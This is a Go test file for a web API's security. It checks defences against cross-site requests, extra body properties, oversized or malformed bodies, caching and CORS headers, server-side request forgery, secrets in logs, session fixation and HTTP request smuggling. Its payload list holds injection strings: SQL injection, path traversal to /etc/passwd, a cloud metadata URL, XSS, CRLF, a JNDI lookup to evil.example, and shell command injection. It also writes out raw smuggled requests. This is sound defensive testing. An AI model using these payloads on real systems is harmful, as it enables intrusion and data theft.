package api_test

import (
	"bufio"
	"bytes"
	"fmt"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"vidjil.org/vidjil/client"
	"vidjil.org/vidjil/internal/store/storetest"
)

// unaudited is the contents of a store but the audit, in which reading is noted.
func (w *site) unaudited() map[string][]string {
	all := w.contents()
	delete(all, "audit")
	delete(all, "audit_head")
	return all
}

// ownCall is a call of a route by nina with her own objects.
func (l *twoLabs) ownCall(t *testing.T, r route) *call {
	t.Helper()
	return l.request(t, r, reference{}, "")
}

// TestOtherSitesChangeNothing: a page of another site, in the browser of a
// person who is signed in, changes nothing by any route: not from another
// origin, not as a form, not by a method in disguise.
func TestOtherSitesChangeNothing(t *testing.T) { //nolint:tparallel // the parts share one server, and go one after the other
	t.Parallel()
	l := newTwoLabs(t)
	w := l.open(t)
	before := w.contents()
	for _, r := range routesOf(t, w) {
		if r.method == http.MethodGet || r.method == http.MethodHead {
			continue
		}
		for name, head := range map[string]map[string]string{
			"a browser that says so":   {"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"},
			"an old browser":           {"Origin": "https://evil.example"},
			"a sandboxed page":         {"Origin": "null"},
			"another port of the host": {"Sec-Fetch-Site": "same-site", "Origin": "http://127.0.0.1:1"},
		} {
			c := l.ownCall(t, r)
			maps.Copy(c.header, head)
			if got, body := l.nina.as(t, w, c); got != http.StatusForbidden {
				t.Errorf("%s %s from %s: got %d %s", r.method, r.path, name, got, body)
			}
		}
		if r.body != nil {
			for _, mediaType := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"} {
				c := l.ownCall(t, r)
				c.header["Content-Type"] = mediaType
				if got, body := l.nina.as(t, w, c); got < 400 || got >= 500 {
					t.Errorf("%s %s as %s: got %d %s", r.method, r.path, mediaType, got, body)
				}
			}
		}
		if strings.HasPrefix(r.path, client.Prefix+"/uploads/") {
			continue // the protocol of uploads has such a header: its door is the rights of the upload
		}
		c := l.ownCall(t, r)
		c.method, c.header["X-HTTP-Method-Override"], c.header["X-Method-Override"] = http.MethodGet, r.method, r.method
		c.target += "?_method=" + r.method
		l.nina.as(t, w, c)
	}
	after := w.contents()
	before["audit"], before["audit_head"] = after["audit"], after["audit_head"] // of what the GETs read
	if diff := cmp.Diff(before, after); diff != "" {
		t.Errorf("something was written (-before +after):\n%s", diff)
	}
}

// TestStrictBodies: a property that a route does not know is refused, so that
// nobody makes themselves an administrator by one that the struct behind it
// has; and so are bodies without measure.
func TestStrictBodies(t *testing.T) { //nolint:tparallel // the parts share one server, and go one after the other
	t.Parallel()
	l := newTwoLabs(t)
	w := l.open(t)
	before := w.unaudited()
	for _, r := range routesOf(t, w) {
		if r.body == nil {
			continue
		}
		for _, name := range []string{"admin", "is_admin", "id", "owner_id", "created_at", "state", "__proto__", "Email"} {
			if schema := r.doc.resolve(r.body); r.doc.property(schema, name) != nil {
				continue // one of its own
			}
			c := l.ownCall(t, r)
			c.body = withProperty(t, r, reference{in: "body", name: name}, c.body, "1")
			if got, body := l.nina.as(t, w, c); got != http.StatusUnprocessableEntity && got != http.StatusForbidden && got != http.StatusBadRequest {
				t.Errorf("%s %s with %q: got %d %.200s", r.method, r.path, name, got, body)
			}
		}
		for name, text := range map[string]string{
			"without an end": `{"name":`, "an array": `[]`, "null": `null`, "deep": strings.Repeat(`{"name":`, 100_000) + "1" + strings.Repeat("}", 100_000),
			"deep list": strings.Repeat("[", 500_000), "two values": `{} {}`, "not UTF-8": "{\"name\":\"\xff\xfe\"}",
		} {
			c := l.ownCall(t, r)
			c.body = text
			if got, body := l.nina.as(t, w, c); got >= 500 || got < 400 && r.method != http.MethodPost {
				t.Errorf("%s %s, %s: got %d %.200s", r.method, r.path, name, got, body)
			}
		}
	}
	if diff := cmp.Diff(before, w.unaudited()); diff != "" {
		t.Errorf("something was written (-before +after):\n%s", diff)
	}
}

// TestBodiesAreBounded: no route reads more than it can need.
func TestBodiesAreBounded(t *testing.T) { //nolint:tparallel // the parts share one server, and go one after the other
	t.Parallel()
	l := newTwoLabs(t)
	w := l.open(t)
	huge := `{"name":"` + strings.Repeat("x", 40<<20) + `"}`
	seen := 0
	for _, r := range routesOf(t, w) {
		if r.body == nil {
			continue
		}
		if seen++; seen%5 != 0 && r.method != http.MethodPut {
			continue // the limit is in one place: a part of the routes tells
		}
		c := l.ownCall(t, r)
		c.body = huge
		if got := l.statusOfHuge(t, w, c); got != http.StatusRequestEntityTooLarge && got != http.StatusForbidden && got != 0 {
			t.Errorf("%s %s: got %d to 40 MB, want 413", r.method, r.path, got)
		}
	}
}

// statusOfHuge sends a large request; 0 when the server cut the connection
// while it came, which it may.
func (l *twoLabs) statusOfHuge(t *testing.T, w *site, c *call) int {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), c.method, w.URL+c.target, strings.NewReader(c.body))
	if err != nil {
		t.Fatal(err)
	}
	for name, value := range c.header {
		req.Header.Set(name, value)
	}
	req.Header.Set("Cookie", l.nina.cookie)
	res, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		return 0
	}
	defer res.Body.Close()
	return res.StatusCode
}

// payloads are texts that have broken servers: SQL, patterns, paths, markup,
// control characters, and much of the same.
var payloads = []string{
	`'`, `' OR '1'='1`, `'; DROP TABLE sets; --`, `") UNION SELECT password FROM users --`, `%`, `%%%_`, `\`, "\x00", "a\x00b", "\xff\xfe", "*", `"unclosed`, `a:b NEAR/3 c`, `{}`,
	`../../../../etc/passwd`, `..%2f..%2fsecret.key`, `..\..\secret.key`, `/etc/passwd`, `file:///etc/passwd`, `http://169.254.169.254/latest/meta-data/`,
	`<script>alert(1)</script>`, "a\r\nSet-Cookie: x=1", `${jndi:ldap://evil.example/a}`, `{{7*7}}`, `; sleep 5`, "`id`", `-1`, `99999999999999999999`, `1e309`, `NaN`, `0x10`,
	strings.Repeat("a", 5000), strings.Repeat("(", 300), strings.Repeat("a* ", 200), strings.Repeat("%", 400), "\u202e\u0000\ufeff", `eyJrIjoiJyBPUiAxPTEifQ`,
}

// leaks matches what only the inside of the server says.
var leaks = regexp.MustCompile(`SQLSTATE|sqlite|SQL logic|goroutine |\.go:[0-9]|/tmp/|panic`)

// TestStrangeParameters puts each payload into each parameter of each list and
// view: nothing breaks, nothing of others comes out, nothing is written, and no
// payload comes back as a header.
func TestStrangeParameters(t *testing.T) { //nolint:tparallel // the parts share one server, and go one after the other
	t.Parallel()
	l := newTwoLabs(t)
	w := l.open(t)
	before := w.unaudited()
	asked := 0
	for _, r := range routesOf(t, w) {
		if r.method != http.MethodGet || strings.Contains(r.path, "/events") {
			continue
		}
		for _, p := range r.query {
			for _, payload := range payloads {
				c := l.ownCall(t, r)
				switch p.In {
				case "query":
					address, query, _ := strings.Cut(c.target, "?")
					values, _ := url.ParseQuery(query)
					values.Set(p.Name, payload)
					c.target = address + "?" + values.Encode()
				case "path":
					c.target = client.Prefix + strings.Replace(strings.TrimPrefix(r.path, client.Prefix), "{"+p.Name+"}", url.PathEscape(payload), 1)
					c.target = regexp.MustCompile(`\{[a-z_]+\}`).ReplaceAllString(c.target, "1")
				default:
					continue
				}
				asked++
				start := time.Now()
				status, body := l.nina.as(t, w, c)
				if status >= 500 && status != http.StatusServiceUnavailable || strings.Contains(body, "root:") || leaks.MatchString(body) {
					t.Errorf("GET %s: got %d %.300s", c.target, status, body)
				}
				if leak := leaked(body, []string{"Zyxwarren-ann", "laboratory of ann", "ann@example.org"}); leak != "" {
					t.Errorf("GET %s tells %q of others: %.300s", c.target, leak, body)
				}
				if took := time.Since(start); took > 20*time.Second {
					t.Errorf("GET %s took %v", c.target, took)
				}
			}
		}
	}
	if asked < 1000 {
		t.Errorf("%d requests: most routes are not seen", asked)
	}
	if diff := cmp.Diff(before, w.unaudited()); diff != "" {
		t.Errorf("something was written (-before +after):\n%s", diff)
	}
}

// TestStrangeBodies puts payloads into each text of each body: nothing breaks,
// and nothing of the inside comes out.
func TestStrangeBodies(t *testing.T) { //nolint:tparallel // the parts share one server, and go one after the other
	t.Parallel()
	l := newTwoLabs(t)
	w := l.open(t)
	asked := 0
	for _, r := range routesOf(t, w) {
		if r.body == nil {
			continue
		}
		for _, ref := range r.texts(r.doc.resolve(r.body), nil) {
			for _, payload := range payloads {
				c := l.ownCall(t, r)
				c.body = withProperty(t, r, ref, c.body, payload)
				asked++
				status, body := l.nina.as(t, w, c)
				if status >= 500 && status != http.StatusServiceUnavailable || leaks.MatchString(body) {
					t.Errorf("%s %s, %s = %.40q: got %d %.300s", r.method, r.path, ref, payload, status, body)
				}
			}
		}
		w = l.open(t)
	}
	if asked < 2000 {
		t.Errorf("%d requests: most texts are not seen", asked)
	}
}

// texts are the places of a body where there is text.
func (r route) texts(schema map[string]any, at []string) (list []reference) {
	properties, _ := schema["properties"].(map[string]any)
	for _, name := range slices.Sorted(maps.Keys(properties)) {
		property := r.doc.property(schema, name)
		items, _ := property["items"].(map[string]any)
		items = r.doc.resolve(items)
		below := append(slices.Clone(at), name)
		switch {
		case property["properties"] != nil:
			list = append(list, r.texts(property, below)...)
		case items["properties"] != nil:
			list = append(list, r.texts(items, append(below, "[]"))...)
		default:
			ref := reference{in: "body", name: name, at: at}
			if ref.shape(property); ref.text {
				list = append(list, ref)
			}
		}
	}
	return list
}

// TestAnswersStayPrivate: no cache keeps an answer, no browser takes one for a
// page, and none opens itself to other sites, by any route.
func TestAnswersStayPrivate(t *testing.T) { //nolint:tparallel // the parts share one server, and go one after the other
	t.Parallel()
	l := newTwoLabs(t)
	w := l.open(t)
	for _, r := range routesOf(t, w) {
		if r.method != http.MethodGet || strings.HasSuffix(r.path, "/events") || strings.HasSuffix(r.path, "/log/events") {
			continue
		}
		c := l.ownCall(t, r)
		req, err := http.NewRequestWithContext(t.Context(), c.method, w.URL+c.target, http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Cookie", l.nina.cookie)
		req.Header.Set("Origin", "https://evil.example")
		status, head := reply(t, http.DefaultTransport, req)
		cache := head.Get("Cache-Control")
		if !strings.Contains(cache, "no-store") && !strings.Contains(cache, "private") {
			t.Errorf("GET %s: %d, Cache-Control %q", r.path, status, cache)
		}
		if strings.Contains(cache, "public") || head.Get("X-Content-Type-Options") != "nosniff" || strings.Contains(head.Get("Content-Type"), "html") || strings.Contains(head.Get("Content-Type"), "svg") {
			t.Errorf("GET %s: %d %v", r.path, status, head)
		}
		for name := range head {
			if strings.HasPrefix(name, "Access-Control-") {
				t.Errorf("GET %s opens itself to other sites: %s", r.path, name)
			}
		}
	}
}

// addressed matches names of properties that may hold the address of a server.
var addressed = regexp.MustCompile(`(?i)(^|_)(url|uri|href|host|hostname|endpoint|webhook|callback|redirect|proxy|server)s?$`)

// TestNobodySendsTheServerSomewhere: no parameter and no property of any
// request is an address that the server would call. Those that it calls (mail,
// S3, a directory, a monitor) are the administrator's, in the settings.
func TestNobodySendsTheServerSomewhere(t *testing.T) {
	t.Parallel()
	w := newSite(t, storetest.SQLite(t), siteConfig{})
	seen := 0
	for _, r := range routesOf(t, w) {
		names := map[string]bool{}
		for _, p := range r.query {
			names[p.Name+" "+fmt.Sprint(p.Schema["format"])] = true
		}
		if r.body != nil {
			propertiesOf(r.doc, r.doc.resolve(r.body), names)
		}
		for key := range names {
			seen++
			name, format, _ := strings.Cut(key, " ")
			if addressed.MatchString(name) || strings.HasPrefix(format, "ur") {
				t.Errorf("%s %s: %s may be an address. If the server calls it, whoever writes it reaches what the server reaches", r.method, r.path, name)
			}
		}
	}
	if seen < 200 {
		t.Errorf("%d names: most are not seen", seen)
	}
}

// propertiesOf gathers "name format" of all properties of a schema.
func propertiesOf(d *document31, schema map[string]any, names map[string]bool) {
	properties, _ := schema["properties"].(map[string]any)
	for name := range properties {
		p := d.property(schema, name)
		names[name+" "+fmt.Sprint(p["format"])] = true
		propertiesOf(d, p, names)
		if items, ok := p["items"].(map[string]any); ok {
			propertiesOf(d, d.resolve(items), names)
		}
	}
}

// TestSecretsInNoLogAndNoAddress: a token or a session in an address is not
// one, and passwords, tokens and cookies stay out of the log.
func TestSecretsInNoLogAndNoAddress(t *testing.T) {
	t.Parallel()
	var logged bytes.Buffer
	w := newSite(t, storetest.SQLite(t), siteConfig{Log: slog.New(slog.NewTextHandler(&logged, &slog.HandlerOptions{Level: slog.LevelDebug}))})
	w.admin()
	c, cookie := w.browser(t, "root")
	made, err := c.CreateToken(t.Context(), client.NewToken{Name: "one", Scopes: []string{"read"}})
	if err != nil {
		t.Fatal(err)
	}
	_, session, _ := strings.Cut(cookie, "=")
	for _, query := range []string{"token=" + made.Text, "access_token=" + made.Text, "vidjil=" + session, "session=" + session, "api_key=" + made.Text} {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, w.URL+client.Prefix+"/sets?"+query, http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		if got, _ := reply(t, http.DefaultTransport, req); got != http.StatusUnauthorized && got != http.StatusUnprocessableEntity {
			t.Errorf("%s in an address: got %d, want 401", query[:5], got)
		}
	}
	_, err = w.nobody().SignIn(t.Context(), client.Credentials{Email: "root@example.org", Password: "a wrong one, long enough"})
	wantCode(t, "wrong password", err, "unauthenticated")
	w.close()
	for name, secret := range map[string]string{"a token": made.Text, "a session": session, "a password": password, "a wrong password": "a wrong one"} {
		if strings.Contains(logged.String(), secret) {
			t.Errorf("the log holds %s", name)
		}
	}
	if !strings.Contains(logged.String(), "path=/api/v1/sets") {
		t.Error("the log tells nothing at all: it is looked for in the wrong place")
	}
}

// TestFixedSession: a session that somebody else put into the browser is not
// the one that a person gets.
func TestFixedSession(t *testing.T) {
	t.Parallel()
	w := newSite(t, storetest.SQLite(t), siteConfig{})
	w.admin()
	for _, value := range []string{"chosen-by-somebody-else", strings.Repeat("A", 43), ""} {
		req := post(t, w.URL+client.Prefix+"/session", `{"email":"root@example.org","password":"`+password+`"}`)
		req.Header.Set("Cookie", "vidjil="+value)
		status, head := reply(t, http.DefaultTransport, req)
		list := cookies(head)
		if status != http.StatusOK || len(list) != 1 || list[0].Value == value || len(list[0].Value) < 32 {
			t.Errorf("got %d and %v", status, list)
		}
		again, err := http.NewRequestWithContext(t.Context(), http.MethodGet, w.URL+client.Prefix+"/sets", http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		again.Header.Set("Cookie", "vidjil="+value)
		if got, _ := reply(t, http.DefaultTransport, again); got != http.StatusUnauthorized {
			t.Errorf("the value that was chosen opens something: %d", got)
		}
	}
}

// TestSmuggledRequests sends what front servers and back servers may read
// differently: each is refused, and what is behind it is never answered as a
// request of its own.
func TestSmuggledRequests(t *testing.T) {
	t.Parallel()
	w := newSite(t, storetest.SQLite(t), siteConfig{})
	host := strings.TrimPrefix(w.URL, "http://")
	hidden := "GET " + client.Prefix + "/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n"
	for name, text := range map[string]string{
		"two lengths":         "POST " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n" + hidden,
		"space before colon":  "POST " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nContent-Length : 5\r\n\r\n" + hidden,
		"strange coding":      "POST " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n" + hidden,
		"signed length":       "POST " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nContent-Length: +5\r\n\r\n" + hidden,
		"folded header":       "POST " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nX: a\r\n b\x00: c\r\n\r\n" + hidden,
		"two hosts":           "GET " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n" + hidden,
		"bad size of a chunk": "POST " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n-5\r\n" + hidden,
		"a large header":      "GET " + client.Prefix + "/session HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("a", 4<<20) + "\r\n\r\n" + hidden,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			conn, err := net.Dial("tcp", host)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			go conn.Write([]byte(text)) // the server may hang up first
			if err := conn.SetReadDeadline(time.Now().Add(20 * time.Second)); err != nil {
				t.Fatal(err)
			}
			r := bufio.NewReader(conn)
			res, err := http.ReadResponse(r, nil)
			if err != nil {
				return // hung up, which is an answer
			}
			if res.StatusCode < 400 {
				t.Errorf("got %s", res.Status)
			}
			res.Body.Close()
			rest, err := http.ReadResponse(r, nil)
			if err == nil {
				rest.Body.Close()
				if rest.StatusCode == http.StatusOK {
					t.Error("what was behind it was answered")
				}
			}
		})
	}
}
